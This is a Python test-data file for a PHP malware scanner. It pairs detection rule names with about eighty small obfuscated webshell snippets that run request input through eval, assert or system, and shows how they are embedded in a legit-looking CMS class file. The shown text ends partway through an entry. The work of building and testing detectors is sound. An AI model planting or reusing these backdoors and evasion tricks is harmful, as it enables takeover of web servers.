# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4m: obfuscation layers and hidden sinks.

Variants written for the tests (decoder chains in other orders and nestings, intermediate variables,
payloads split into pieces or imploded arrays, chr()/escape/alphabet-picked names, goto spaghetti,
O0/Il-named encoders, create_function, split or escaped preg_replace /e, callbacks and closures,
helper functions, short-circuit sinks, header loops, extract(), ${'_'.'POST'}); nothing here comes
from the malware corpus. Each must-hit is checked three ways: as written, `padded(...)` behind 5 KB of
neutral HTML, and `embedded(...)` at the top of a ~40 KB legit-looking PHP class file (how injected
code sits in a CMS file). Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import padded, plain

_METHOD = """
    /** Load one stored item by id and shape it for the list table. */
    public function get_item_{n}($id, $args = array()) {{
        $args = array_merge($this->defaults, (array) $args);
        $row = $this->db->get_row($this->db->prepare("SELECT * FROM {{$this->table}} WHERE id = %d", $id));
        if (!$row) {{
            return new WP_Error('not_found', __('Item not found.'), array('status' => 404));
        }}
        $title = isset($row->title) ? esc_html($row->title) : '';
        $this->cache[$id] = array('id' => (int) $row->id, 'title' => $title, 'order' => $args['order']);
        return $this->cache[$id];
    }}
"""

_HOST = (
    "\nclass Site_Items_Table {\n    private $db;\n    private $table = 'items';\n    private $cache = array();\n"
    + "    private $defaults = array('order' => 'ASC');\n"
    + "".join(_METHOD.format(n=n) for n in range(90))
    + "}\n"
)


def embedded(code: str) -> bytes:
    """The snippet injected at the top of a ~45 KB legit-looking PHP class file."""
    return (code.rstrip() + "\n?>\n<?php" + _HOST).encode()


# (rule expected as written, padded, embedded; the PHP variant)
_HITS: list[tuple[str, str, str, str]] = [
    # a:intermediate_vars
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$str = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$dec = base64_decode($str);\n$code = gzinflate($dec);\neval($code);\n",
    ),
    # a:rot_b64_gzunc
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php @eval(gzuncompress(base64_decode(str_rot13('rAcmXX4fYxaA1IPWq3pAvIMXIbeIgSMVGp7VI1QXm1nlOtPtUjyf'))));\n",
    ),
    # a:gzdecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        '<?php\neval(gzdecode(base64_decode("H4sIAAAAAAACA3MoriwuSc3VUIl3dw2JVkpWitW0VkhNzshXUMrPVrIGAJX3BDwfAAAA")));\n',
    ),
    # a:strrev_b64
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php eval(strrev(base64_decode('OyJrbyIgb2hjZSA7KV0iYyJbVEVHXyQobWV0c3lzQA==')));\n",
    ),
    # a:assert_b64_strrev
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php @assert(base64_decode(strrev('==wOis2biAyboNWZgsTKdJyYisFVFd0XkgSblR3c5NHQ')));\n",
    ),
    # a:uudecode
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\neval(convert_uudecode('?0\\'-Y<W1E;2@D7T=%5%LB8R)=*3L@96-H;R B;VLB.P  \n`\n'));\n",
    ),
    # a:hex2bin
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php eval(hex2bin('4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n",
    ),
    # a:pack_H
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n@eval(pack('H*', '4073797374656d28245f4745545b2263225d293b206563686f20226f6b223b'));\n",
    ),
    # a:concat_pieces
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$p = 'QHN5c3Rlb'.'SgkX0dFVF'.'siYyJdKTs'.'gZWNobyAi'.'b2siOw==';\neval(base64_decode($p));\n",
    ),
    # a:implode_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$parts = array('cyiuLC5JzdVQiXd3DYlW', 'SlaK1bRWSE3OyFdQys9W', 'sgYA');\neval(gzinflate(base64_decode(implode('', $parts))));\n",
    ),
    # a:join_short_array
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        '<?php eval(base64_decode(join("", ["QHN5c3Rlb", "SgkX0dFVF", "siYyJdKTs", "gZWNobyAi", "b2siOw=="])));\n',
    ),
    # a:chr_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n$f($_POST['x']);\n",
    ),
    # a:chr_arith
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = chr(100+15).chr(120+1).chr(115).chr(58+58).chr(101).chr(109);\n@$f($_REQUEST['c']);\n",
    ),
    # a:chr_hex
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php $f=chr(0x73).chr(0x79).chr(0x73).chr(0x74).chr(0x65).chr(0x6d); $f($_GET['cmd']);\n",
    ),
    # a:xescaped_assert
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = \"\\x61\\x73\\x73\\x65\\x72\\x74\";\n$f($_REQUEST['p']);\n",
    ),
    # a:octal_system
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php $f = \"\\163\\171\\163\\164\\145\\155\"; $f($_GET['c']);\n",
    ),
    # a:mixed_escape
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$run = \"\\x73y\\163t\\x65m\";\n$run(stripslashes($_POST['c']));\n",
    ),
    # a:create_function_concat
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "<?php\n$a = 'cr'.'eate_'.'function';\n$b = $a('', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n$b();\n",
    ),
    # a:substr_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$j = 'xzassertqq';\n$f = substr($j, 2, 6);\n$f($_POST['q']);\n",
    ),
    # a:str_replace_junk
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = str_replace('X', '', 'aXsXsXeXrXt');\n$f($_POST['q']);\n",
    ),
    # a:alphabet_index
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[0].$k[18].$k[18].$k[4].$k[17].$k[19];\n$f($_POST['x']);\n",
    ),
    # a:alphabet_curly
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$k = 'zyxwvutsrqponmlkjihgfedcba_';\n$f = $k{7}.$k{1}.$k{7}.$k{6}.$k{21}.$k{13};\n$f($_COOKIE['x']);\n",
    ),
    # a:goto_spaghetti
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        "<?php\ngoto a1;\nb2: eval($p); goto c3;\na1: $p = base64_decode($_POST['x']); goto b2;\nc3: echo '';\n",
    ),
    # a:fopo_like
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php $O0O0O0 = urldecode('%62%61%73%65%36%34%5f%64%65%63%6f%64%65'); $O00O0O = 'gz'.'inflate';\neval($O00O0O($O0O0O0('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n",
    ),
    # a:fopo_alphabet
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$OO0O0=urldecode('%61%73%65%62%64%6f%63%5f%36%34%67%7a%69%6e%66%6c%74');$O0OO0=$OO0O0[3].$OO0O0[0].$OO0O0[1].$OO0O0[2].$OO0O0[8].$OO0O0[9].$OO0O0[7].$OO0O0[4].$OO0O0[2].$OO0O0[6].$OO0O0[5].$OO0O0[4].$OO0O0[2];\neval($O0OO0('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n",
    ),
    # a:Il_names
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$lIlI1 = 'ba'.'se'.'64_d'.'ecode';\n$I1lIl = $lIlI1('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==');\neval($I1lIl);\n",
    ),
    # a:eval_Ovar_nested
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$O00OO0 = 'base64_decode'; $O0O0O0 = 'gzinflate';\neval($O0O0O0($O00OO0(\"cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\")));\n",
    ),
    # a:create_function_input
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php\n$f = create_function('', $_POST['c']);\n$f();\n",
    ),
    # a:create_function_b64_input
    (
        "SPAMGEAR_FAMILY_ChinaChopper",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php $lambda = @create_function('$a', base64_decode($_REQUEST['code'])); $lambda(1);\n",
    ),
    # a:preg_e_b64
    (
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        "SPAMGEAR_INPUT_PregEvalDecodedReplacement",
        "<?php preg_replace('/.*/e', base64_decode('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='), '');\n",
    ),
    # a:preg_split_e
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n@preg_replace('/x/'.'e', $_POST['c'], 'x');\n",
    ),
    # a:preg_modvar
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n$m = '/.*/';\n$m .= 'e';\npreg_replace($m, $_REQUEST['c'], '.');\n",
    ),
    # a:preg_hexe
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php preg_replace(\"/.*/\\x65\", $_REQUEST['c'], 'a');\n",
    ),
    # a:array_map_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php array_map(base64_decode('YXNzZXJ0'), array($_POST['x']));\n",
    ),
    # a:array_filter_req_cb
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "<?php\n$arr = array($_REQUEST['c']);\narray_filter($arr, $_REQUEST['f']);\n",
    ),
    # a:usort_req
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "<?php\n$a = array($_POST['pass'], 'x');\n@usort($a, $_GET['cb']);\n",
    ),
    # a:uasort_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php $e = array($_COOKIE['z'] => 1, 2 => 2); uasort($e, base64_decode('YXNzZXJ0'));\n",
    ),
    # a:shutdown_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php register_shutdown_function(base64_decode('YXNzZXJ0'), $_POST['x']);\n",
    ),
    # a:iterator_apply
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "SPAMGEAR_INPUT_InputAsFunction",
        "<?php\n$it = new ArrayIterator(array(1));\niterator_apply($it, $_GET['f'], array($_GET['a']));\n",
    ),
    # a:closure_array_map
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php array_map(function($c){ eval($c); }, array($_POST['x']));\n",
    ),
    # a:closure_var
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        "<?php\n$fn = function($x) { return @eval($x); };\n$fn($_REQUEST['z']);\n",
    ),
    # a:helper_eval
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nfunction run_it($s) {\n    eval(base64_decode($s));\n}\nrun_it($_COOKIE['t']);\n",
    ),
    # a:helper_shell
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        "<?php\nfunction x1($c) { return shell_exec($c); }\necho x1($_REQUEST['cmd']);\n",
    ),
    # a:and_eval
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "<?php\n$s = $_POST;\n$s['a'] && eval($s['a']);\n",
    ),
    # a:isset_and_eval
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "SPAMGEAR_INPUT_ShortCircuitSink",
        "<?php isset($_REQUEST['a']) && eval(stripslashes($_REQUEST['a']));\n",
    ),
    # a:headers_foreach
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php\nforeach (getallheaders() as $n => $v) {\n    if ($n == 'X-Auth') { eval(base64_decode($v)); }\n}\n",
    ),
    # a:server_foreach
    (
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "SPAMGEAR_INPUT_LoopInputToSink",
        "<?php foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_X') === 0) { @eval(base64_decode($v)); } }\n",
    ),
    # a:extract_call
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\nextract($_REQUEST);\n@$a($b);\n",
    ),
    # a:extract_post_func
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        "<?php\n@extract($_POST);\nif (!empty($func)) { echo $func($arg); }\n",
    ),
    # a:curly_superglobal
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "<?php eval(${'_'.'POST'}['x']);\n",
    ),
    # a:curly_sg_alias
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        "<?php\n$g = ${\"_G\".\"ET\"};\n$g['f']($g['a']);\n",
    ),
    # a:curly_req_call
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        '<?php @${"_REQ"."UEST"}[\'a\'](${"_REQ"."UEST"}[\'b\']);\n',
    ),
    # a:spaced_comments
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        "<?php eval /*x*/ ( gzinflate ( base64_decode ( 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA' ) ) ) ;\n",
    ),
    # a:upper_case
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_INJECT_EVAL_GZINFLATE_BLOCK",
        "<?php EVAL(GZINFLATE(BASE64_DECODE('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n",
    ),
    # a:decoder_names_concat
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$b = 'base64_'.'decode';\n$g = 'gz'.'inflate';\neval($g($b('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n",
    ),
    # a:strrev_decoder_name
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$f = strrev('edoced_46esab');\neval($f('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n",
    ),
    # a:rot13_decoder_input
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$f = str_rot13('onfr64_qrpbqr');\n@eval($f($_POST['x']));\n",
    ),
    # a:nested3
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php eval(base64_decode(str_rot13(strrev('==jBvf2ovNlobAJMtfGXqWlLvfSISq0KxtFoyE3p5AUD'))));\n",
    ),
    # a:hexname_decoder
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "<?php\n$_ = 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n$__ = \"\\x62as\\x65\\x36\\x34_decode\";\neval($__($_));\n",
    ),
    # a:compound_assign
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$c = 'as';\n$c .= 'se';\n$c .= 'rt';\n$c($_POST['k']);\n",
    ),
    # a:cufa_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php call_user_func_array(base64_decode('c3lzdGVt'), array($_GET['c']));\n",
    ),
    # a:eval_closetag_blob
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        "<?php\n$blob = 'PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\neval('?>' . base64_decode($blob));\n",
    ),
    # a:eval_interp
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$z = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$x = gzinflate(base64_decode($z));\neval(\"?>$x\");\n",
    ),
    # a:data_include
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        "<?php include 'data://text/plain;base64,PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n",
    ),
    # a:classic_rot_gz
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode('ZlXLVlgvqtJDiQ8JZY9JKkOK1bRJKCooWkVDV6pDsgYA')))));\n",
    ),
    # a:substr_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\n$d = 'XXXXXXXXXXcyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode(substr($d, 10))));\n",
    ),
    # a:class_method
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "SPAMGEAR_OBFUSC_EvalDecoder",
        "<?php\nclass Cache_Helper {\n    public function load($k) { return @eval(base64_decode($k)); }\n}\n$c = new Cache_Helper();\n$c->load($_POST['data']);\n",
    ),
    # a:array_index_call
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php $arr = [base64_decode('c3lzdGVt')]; $arr[0]($_GET['c']);\n",
    ),
    # a:escaped_eval_in_code
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        "<?php\n$s = \"\\x65\\x76\\x61\\x6c(\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\";\n$f = create_function('', $s);\n$f();\n",
    ),
    # a:octal_eval_preg
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "SPAMGEAR_EVASION_SplitPregModifier",
        "<?php\n$m = \"/.*/\\145\";\n@preg_replace($m, \"\\145\\166\\141\\154('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')\", '');\n",
    ),
    # b:varnames_chain
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        '<?php\n$a = "gzinflate";\n$b = "base64_decode";\n$c = $a($b(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\'));\neval($c);\n',
    ),
    # b:urldecode_cookie
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php eval(gzinflate(base64_decode(urldecode($_COOKIE['x']))));\n",
    ),
    # b:rot_b64_rev_post
    (
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "SPAMGEAR_INPUT_EvalOfInput",
        "<?php @eval(str_rot13(base64_decode(strrev($_POST['d']))));\n",
    ),
    # b:assert_b64_var
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        "<?php\n$x = 'ZXZhbChiYXNlNjRfZGVjb2RlKCRfUE9TVFsncCddKSk7';\nassert(base64_decode($x));\n",
    ),
    # b:create_fn_decoded
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$code = base64_decode(\"QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==\");\n$f = create_function('', $code);\n$f();\n",
    ),
    # b:implode_map_chr
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = implode('', array_map('chr', array(97,115,115,101,114,116)));\n$f($_POST['z']);\n",
    ),
    # b:decoder_var_input_eval
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        "<?php\n$k = 'base64_decode';\n$s = $k($_POST['q']);\n@eval($s);\n",
    ),
    # b:sprintf_name
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$f = sprintf('%s%s', 'sys', 'tem');\n$f($_GET['c']);\n",
    ),
    # b:range_pick
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$a = range('a', 'z');\n$f = $a[0].$a[18].$a[18].$a[4].$a[17].$a[19];\n$f($_POST['x']);\n",
    ),
    # b:spaced_pick_header
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\n$k = 'abcdefghijklmnopqrstuvwxyz';\n$f = $k[18] . $k[24] . $k[18] . $k[19] . $k[4] . $k[12];\n$f($_SERVER['HTTP_X_CMD']);\n",
    ),
    # b:pick_function
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        "<?php\nfunction g($i) { $s = 'abcdefghijklmnopqrstuvwxyz'; return $s[$i]; }\n$f = g(0).g(18).g(18).g(4).g(17).g(19);\n$f($_POST['x']);\n",
    ),
    # b:fopo_curly_eval
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        "SPAMGEAR_EVASION_EvalOfVariableCall",
